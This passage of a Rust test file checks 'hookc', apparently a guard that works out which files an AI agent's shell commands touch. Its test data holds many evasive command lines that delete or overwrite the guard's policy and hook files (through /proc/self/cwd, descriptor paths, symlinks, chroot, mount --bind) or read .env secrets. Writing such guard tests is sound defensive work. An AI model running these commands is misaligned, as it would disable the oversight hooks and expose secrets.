    assert!(many.iter().any(|t| t.2.is_some()), "{many:?}");
    assert!(many.len() <= MAX_DIRS + 2, "{many:?}");
}

/// A wrapper that runs its command in another folder goes there first, as
/// a `cd`; one that runs it under another root is opaque.
#[test]
fn a_wrapper_that_moves_its_command_moves_its_paths() {
    for line in [
        "env -C .hookc rm -f policy.json",
        "env --chdir=.hookc rm -f policy.json",
        "env -C.hookc rm -f policy.json",
        "sudo -D .hookc rm -f policy.json",
        "sudo --chdir .hookc rm -f policy.json",
        "unshare --wd .hookc rm -f policy.json",
        "unshare -w .hookc rm -f policy.json",
        "nsenter --wd=.hookc rm -f policy.json",
        "nsenter -w.hookc rm -f policy.json",
    ] {
        let ts = seen(line);
        assert!(
            ts.contains(&(".hookc/policy.json".to_owned(), "w")),
            "{line}: {ts:?}"
        );
    }
    // Where the line does not say: the target's folder, a letter in a cluster.
    for line in [
        "nsenter -w rm -f policy.json",
        "env -iC .hookc rm -f policy.json",
    ] {
        let ts = placed(line);
        assert!(ts.iter().any(|t| t.2.is_some()), "{line}: {ts:?}");
    }
    // nsenter's `-w` takes no separate value: `rm` is the command.
    let a = analyze("nsenter -w rm -rf .");
    assert!(a.commands.iter().any(|c| c.program == "rm"), "{a:?}");
    for line in [
        "chroot . rm -f /.hookc/policy.json",
        "sudo -R . rm -f /.hookc/policy.json",
        "unshare --root=. rm -f /.hookc/policy.json",
    ] {
        assert!(analyze(line).is_opaque(), "{line}");
    }
    assert!(!analyze("env -C build make").is_opaque());
}

/// `$PWD`, `$(pwd)` and `$(git rev-parse --show-toplevel)` name a place the
/// guard finds out, as long as the line leaves them what the guard finds.
#[test]
fn places_the_guard_finds_out_are_marked_not_run_time() {
    let start = Some(Place::Start);
    let top = Some(Place::Top);
    let one = |line: &str| placed(line).into_iter().next().unwrap();
    assert_eq!(
        one("cat \"$PWD/.env\""),
        ("$PWD/.env".into(), "r", None, start)
    );
    assert_eq!(one("cat \"${PWD}/.env\"").3, start);
    assert_eq!(one("cp x \"$(pwd)/y\"").3, None);
    assert_eq!(placed("cp x \"$(pwd)/y\"")[1].3, start);
    let cd_top = placed("cd \"$(git rev-parse --show-toplevel)\" && cat .env");
    assert_eq!(
        cd_top,
        [
            (".env".into(), "r", None, None),
            (
                "$(git rev-parse --show-toplevel)/.env".into(),
                "r",
                None,
                top
            )
        ]
    );
    // Above such a place: a folder hookc does not name.
    let up = placed("cd \"$(git rev-parse --show-toplevel)\"; cd ..; rm -rf repo");
    assert!(up.iter().any(|t| t.2.as_deref() == Some("cd ..")), "{up:?}");
    // Not where the line changes them, or runs something first.
    for line in [
        "PWD=/x; cat \"$PWD/.env\"",
        "read PWD; cat \"$PWD/.env\"",
        "cd src; cat \"$PWD/.env\"",
        "cat \"$PWDX/.env\"",
        "cat \"$PWD/$f\"",
        "f() { echo; }; cat \"$PWD/.env\"",
        "PATH=/tmp/x:$PATH; cd \"$(git rev-parse --show-toplevel)\" && cat .env",
        "git config core.worktree /tmp; cd \"$(git rev-parse --show-toplevel)\" && cat .env",
        "GIT_WORK_TREE=/tmp cat \"$(git rev-parse --show-toplevel)/.env\"",
    ] {
        let ts = placed(line);
        assert!(ts.iter().all(|t| t.3.is_none()), "{line}: {ts:?}");
        assert!(ts.iter().any(|t| t.2.is_some()), "{line}: {ts:?}");
    }
}

/// Programs that write files through options or in ways their old rows
/// missed (an adversarial review of b4c540d).
#[test]
fn writers_found_in_review() {
    // A database, a key file, the history file, openssl's `-out`.
    check(
        "sqlite3 .claude/settings.local.json 'create table t(x)'",
        &[
            (".claude/settings.local.json", "rw"),
            ("create table t(x)", "rw"),
        ],
    );
    check(
        "history -w .hookc/policy.json",
        &[(".hookc/policy.json", "rw")],
    );
    check(
        "ssh-keygen -q -N '' -f .codex/hooks.json",
        &[(".codex/hooks.json", "rw")],
    );
    check(
        "openssl enc -in a.txt -out .hookc/policy.json",
        &[("enc", "rw"), ("a.txt", "rw"), (".hookc/policy.json", "rw")],
    );
    // Compressors replace their files, and only read them with -c.
    check("gzip -r .codex", &[(".codex", "rw"), (".codex/**", "r")]);
    check("gunzip x.gz", &[("x.gz", "rw")]);
    check("gzip -dc x.gz", &[("x.gz", "r")]);
    assert!(
        touches(&analyze("zstd -qr --rm .codex"))
            .iter()
            .all(|t| t.tree || !t.access.writes())
    );
    // Archives that delete what they take in.
    check(
        "zip -qrm /tmp/a.zip .hookc",
        &[("/tmp/a.zip", "rw"), (".hookc", "rw")],
    );
    check(
        "zip -qr /tmp/a.zip .hookc",
        &[("/tmp/a.zip", "rw"), (".hookc", "r"), (".hookc/**", "r")],
    );
    check(
        "tar --remove-files -cf /tmp/a.tar .hookc",
        &[("/tmp/a.tar", "w"), (".hookc", "rw")],
    );
    check(
        "mount --bind /tmp/x .codex",
        &[("/tmp/x", "rw"), (".codex", "rw")],
    );
    // A short option's attached value, for a program hookc does not know.
    // (Each ending of the word may be the value: the program says where
    // the option's name ends.)
    let joined = seen("cc -o.codex/hooks.json x.c");
    assert!(joined.contains(&(".codex/hooks.json".to_owned(), "rw")));
    assert!(seen("cc -MFpolicy.kdl x.c").contains(&("policy.kdl".to_owned(), "rw")));
    check("cc -Wall -c x.c", &[("x.c", "rw")]);
    // Readers of files named in options.
    check("man -l .env", &[(".env", "r")]);
    check(
        "du --files0-from=.env",
        &[(".env", "r"), ("the files `.env` lists", "rw")],
    );
    check("du -sh .", &[]);
}

/// `split` and `csplit` write pieces named by a prefix and a counted
/// suffix; `patch` writes the files its patch names.
#[test]
fn pieces_and_patches() {
    check(
        "split -l 10 big.txt part_",
        &[("big.txt", "r"), ("part_*", "w")],
    );
    check("split -l 10 big.txt", &[("big.txt", "r"), ("x*", "w")]);
    check(
        "split --additional-suffix=.json big.txt .hookc/p",
        &[("big.txt", "r"), (".hookc/p*.json", "w")],
    );
    check(
        "csplit -s -f .hookc/policy -b '.json%.0d' a.md 2",
        &[("a.md", "r"), (".hookc/policy.json*", "w")],
    );
    check("csplit a.md 2", &[("a.md", "r"), ("xx*", "w")]);
    // An abbreviated option: the names are the program's.
    let runtime = |line: &str| {
        touches(&analyze(line))
            .into_iter()
            .filter_map(|t| t.runtime)
            .collect::<Vec<_>>()
    };
    assert_eq!(runtime("split --additional=.json big.txt p"), ["p*"]);
    assert!(runtime("split -l 10 big.txt p").is_empty());
    assert_eq!(
        runtime("patch -p1 < fix.patch"),
        ["(the files the patch names)"]
    );
    assert_eq!(
        runtime("patch -d src a.c < fix.patch"),
        ["(the files the patch names)"]
    );
    assert!(runtime("patch src/a.c < fix.patch").is_empty());
    check(
        "patch src/a.c < fix.patch",
        &[("fix.patch", "r"), ("src/a.c", "rw")],
    );
    check(
        "patch -o out.c a.c -i fix.patch",
        &[("out.c", "w"), ("fix.patch", "r"), ("a.c", "rw")],
    );
}

/// Files named in options of find and git, and awk's operands changed by
/// its code (an adversarial review of b4c540d).
#[test]
fn names_read_from_files_and_changed_operands() {
    check("find -files0-from .env", &[(".env", "r")]);
    check("git add --pathspec-from-file=.env", &[(".env", "r")]);
    check("git reset --pathspec-from-file .env", &[(".env", "r")]);
    check("git add --fo .", &[(".", "r"), ("**", "r")]);
    check("git add --dry-run .", &[(".", "r")]);
    assert!(analyze("awk 'BEGIN{ARGV[1]=\".e\" \"nv\"; ARGC=2} {print}'").is_opaque());
}

/// A path that opens a descriptor again names what the line opened on it
/// (an adversarial review of 47f2ad2): any file it redirects, read and
/// written; a descriptor it opens on nothing is known only when it runs.
#[test]
fn a_descriptor_opened_again_is_each_file_the_line_redirects() {
    let both = |line: &str, file: &str| {
        touches(&analyze(line))
            .iter()
            .any(|t| t.path == file && t.access == Access::Both && t.runtime.is_none())
    };
    assert!(both("cat /dev/fd/3 3>>.env", ".env"));
    assert!(both("cat /dev/stderr 2>>.env", ".env"));
    assert!(both("cp README.md /dev/stdin < policy.kdl", "policy.kdl"));
    assert!(both(
        "exec 3<policy.kdl; echo x > /proc/self/fd/3",
        "policy.kdl"
    ));
    assert!(both("rm -rf /dev/fd/3/.hookc 3<.", "./.hookc"));
    assert!(
        touches(&analyze("cat /dev/fd/5"))
            .iter()
            .any(|t| t.runtime.is_some())
    );
    // The harness's own standard streams, with nothing redirected.
    assert!(
        touches(&analyze("echo hi | cat /dev/stdin"))
            .iter()
            .all(|t| t.runtime.is_none() && t.access == Access::Read)
    );
}

/// A descriptor, a directory or the root reached through the kernel's own
/// links is where those lead, however the path is spelled: the kernel
/// takes a `..` after a link from where the link leads.
#[test]
fn paths_through_the_kernels_links_lead_where_the_kernel_goes() {
    let leads = |path: &str| match kernel_path(path) {
        KernelPath::Leads(p) => p,
        other => panic!("{path}: {other:?}"),
    };
    for spelled in [
        "//dev/stdin",
        "/dev/./stdin",
        "/dev/../dev/stdin",
        "/proc/self/root/dev/stdin",
        "/proc/self/fd/../fd/0",
        "/proc/self/root/dev/./stdin",
    ] {
        assert_eq!(leads(spelled), "/proc/self/fd/0", "{spelled}");
    }
    assert_eq!(leads("/dev/./fd/3/x/../y"), "/proc/self/fd/3/x/../y");
    assert_eq!(leads("/proc/self/cwd/../.hookc"), "../.hookc");
    // A `..` after another name stays for the walk on disk: `a` may be a
    // link.
    assert_eq!(leads("/proc/self/cwd/./a/../b"), "a/../b");
    assert_eq!(
        kernel_path("/tmp/l/../../proc/self/cwd/x"),
        KernelPath::Plain
    );
    assert_eq!(kernel_path("/dev/shm/l/../../dev/stdin"), KernelPath::Plain);
    assert_eq!(leads("/proc/self/cwd"), ".");
    assert_eq!(leads("/proc/self/root/proc/self/root/etc"), "/etc");
    for plain in [
        "/dev/stdin",
        "/dev/fd/3",
        "/proc/thread-self/fd/0",
        "/proc/self/status",
        "/dev/null",
        "/tmp/../etc/x",
    ] {
        assert_eq!(kernel_path(plain), KernelPath::Plain, "{plain}");
    }
    for elsewhere in [
        "/proc/1/cwd/x",
        "/proc/42/root/etc",
        "/proc/42/fd/3",
        "/proc/*/cwd/x",
        "/proc/self/c?d/x",
        "/dev/std[i]n",
    ] {
        assert_eq!(kernel_path(elsewhere), KernelPath::Elsewhere, "{elsewhere}");
    }
    // As the line's touches: the descriptor follows what the line
    // redirects, the directory what its `cd`s do.
    let touched = |line: &str, file: &str| touches(&analyze(line)).iter().any(|t| t.path == file);
    assert!(touched(
        "cat README.md < policy.kdl > //dev/stdin",
        "policy.kdl"
    ));
    assert!(touched("cat /dev/../dev/fd/3 3>>.env", ".env"));
    assert!(touched(
        "cd src && rm /proc/self/cwd/../.hookc/policy.json",
        "src/../.hookc/policy.json"
    ));
    assert!(
        touches(&analyze("rm /proc/1/cwd/x"))
            .iter()
            .all(|t| t.runtime.is_some())
    );
}

/// Found by review of 9683d96: readers of whole folders the table missed,
/// compressors under their other names, response files, option values
/// joined to their option, an overlay's folders.
#[test]
fn folder_readers_aliases_response_files_and_mount_options() {
    let reads_below = |line: &str, dir: &str| {
        touches(&analyze(line))
            .iter()
            .any(|t| t.path == dir && t.access.reads() && t.glob.is_some_and(|g| g.dot))
    };
    for line in [
        "diff -N . /tmp/e",
        "sdiff . /tmp/e",
        "rgrep SECRET .",
        "jar cf /tmp/x.jar .",
        "gpgtar --create -o /tmp/g.tar .",
        "zstd -r -c . > /tmp/z",
        "lz4c -r -c . > /tmp/l",
    ] {
        assert!(reads_below(line, "**"), "{line}");
    }
    assert!(!reads_below("zstd -c README.md", "README.md/**"));
    let writes_tree = |line: &str, path: &str| {
        touches(&analyze(line))
            .iter()
            .any(|t| t.path == path && t.access.writes() && t.tree)
    };
    for line in [
        "hardlink .",
        "zstdmt -r --rm .",
        "pzstd --rm -r .",
        "lz4c -r --rm .",
        "ptar -c -f /tmp/x.tar .",
    ] {
        assert!(writes_tree(line, "."), "{line}");
    }
    for (line, file) in [
        ("gcc @.env", ".env"),
        ("strings @.env", ".env"),
        ("java @args.txt", "args.txt"),
        ("gcc -Wl,@.env", ".env"),
        ("cpp -include.env /dev/null", ".env"),
        ("java -XX:Flags=.env -version", ".env"),
        ("java -XX:VMOptionsFile=.env -version", ".env"),
    ] {
        assert!(
            touches(&analyze(line))
                .iter()
                .any(|t| t.path == file && t.access.reads()),
            "{line}"
        );
    }
    for (line, dir) in [
        (
            "mount -t overlay o -o lowerdir=/tmp/e,upperdir=.,workdir=/tmp/w /tmp/m",
            ".",
        ),
        (
            "mount -olowerdir=/tmp/a:src,upperdir=/tmp/u o /tmp/m",
            "src",
        ),
        ("mount --bind /tmp/x .hookc", ".hookc"),
    ] {
        assert!(writes_tree(line, dir), "{line}");
    }
}

/// A path below a name an earlier command of the line made, which may be
/// a symbolic link (copied or moved as one, checked out by git, made by
/// `ln`), leads where the link does: known only when the line runs.
#[test]
fn a_write_through_a_name_the_line_made_is_known_only_when_it_runs() {
    let through = |line: &str| {
        touches(&analyze(line)).iter().any(|t| {
            t.runtime
                .as_deref()
                .is_some_and(|w| w.starts_with(THROUGH_MADE))
        })
    };
    for line in [
        "cp -P /usr/bin/X11 me && rm me/.hookc/policy.json",
        "cp -P /usr/bin/X11 me && cd me && rm policy.kdl",
        "cp -P /usr/lib/x/Release src/up && rm -rf src/up/",
        "mv /tmp/q/up src/up && rm src/up/policy.kdl",
        "ln -s /proc/self me && rm me/cwd/policy.kdl",
        "git checkout -- src/up && rm src/up/policy.kdl",
        "git checkout evil && rm -rf build/.hookc",
        "mytool ./out; echo x > out/settings.json",
    ] {
        assert!(through(line), "{line}");
    }
    // However the made name is spelled, and a name a program hookc does
    // not know is given (found by review of c01c5a2).
    for line in [
        "cp -a /tmp/h src/me && echo x > $PWD/src/me/policy.json",
        "cp -a /tmp/h src/me && echo x > src/../src/me/policy.json",
        "cp -a /tmp/h $PWD/src/me && echo x > src/me/policy.json",
        "cp -a /tmp/h src/me && cd $PWD/src/me && echo x > policy.json",
        "cp -a /tmp/h src/me && echo x > /work/p/src/me/policy.json",
        "dpkg-deb -x /tmp/a.deb me && echo x > me/h/policy.json",
    ] {
        assert!(through(line), "{line}");
    }
    for line in [
        "mkdir -p build && echo x > build/a && rm build/a",
        "cp a.txt b.txt && rm b.txt",
        "cp -P /usr/bin/X11 me && rm me",
        "git status && rm -rf build/out",
        "echo x > out; cat out/x",
    ] {
        assert!(!through(line), "{line}");
    }
}

/// Files a command takes from where the line does not show them: a list
/// file's names, a response file's arguments, the name a compressed file
/// keeps, makefile code on the command line (found by review of c01c5a2).
#[test]
fn files_named_in_lists_and_response_files_are_known_only_when_it_runs() {
    let unknown = |line: &str| touches(&analyze(line)).iter().any(|t| t.runtime.is_some());
    for line in [
        "sort --files0-from=l",
        "wc --files0-from l",
        "tar -T l -cf -",
        "tar --files-from=l -cf x.tar",
        "zstd -q --filelist=l -c",
        "git hash-object -w --stdin-paths",
        "gcc @l",
        "strip @r",
        "gunzip -fN a.gz",
        "gzip -d --name a.gz",
        "make --eval='include x'",
    ] {
        assert!(unknown(line), "{line}");
    }
    for line in [
        "sort -u a.txt",
        "gunzip x.gz",
        "tar -cf x.tar src",
        "make -j4",
        "gcc -O2 -o app main.c",
    ] {
        assert!(!unknown(line), "{line}");
    }
}

/// git options that name a file to read or write, and programs that hand
/// what they find to a command (an adversarial review of 47f2ad2).
#[test]
fn git_marks_and_revision_files_and_fd_exec() {
    check(
        "git fast-export --export-marks=.codex/hooks.json HEAD",
        &[(".codex/hooks.json", "rw")],
    );
    check("git blame -S .env README.md", &[(".env", "r")]);
    check(
        "git blame --ignore-revs-file .env README.md",
        &[(".env", "r")],
    );
    check(
        "git difftool --no-index -y -x cat .env README.md",
        &[
            ("cat", "r"),
            ("cat/**", "r"),
            (".env", "r"),
            (".env/**", "r"),
            ("README.md", "r"),
            ("README.md/**", "r"),
        ],
    );
    check(
        "rsync --write-batch b.bin a/ host:b",
        &[
            ("b.bin", "w"),
            ("a/", "r"),
            ("host:b", "w"),
            ("host:b", "w"),
        ],
    );
    check("fd -H -x cat", &[("**", "rw")]);
    check("fd -e rs", &[]);
}

/// git's own wildcards match a leading dot, and a magic pathspec may name
/// the whole work tree (an adversarial review of 6f85f3c).
#[test]
fn git_pathspecs_with_wildcards_or_magic_reach_every_file() {
    check("git add -f '*'", &[("**", "r")]);
    check("git add -A -f", &[("**", "r")]);
    check("git grep --no-index SECRET -- '*'", &[("**", "r")]);
    assert!(
        touches(&analyze("git add -f ':/'"))
            .iter()
            .any(|t| t.runtime.is_some())
    );
    check(
        "git add -f build/out.bin",
        &[("build/out.bin", "r"), ("build/out.bin/**", "r")],
    );
}
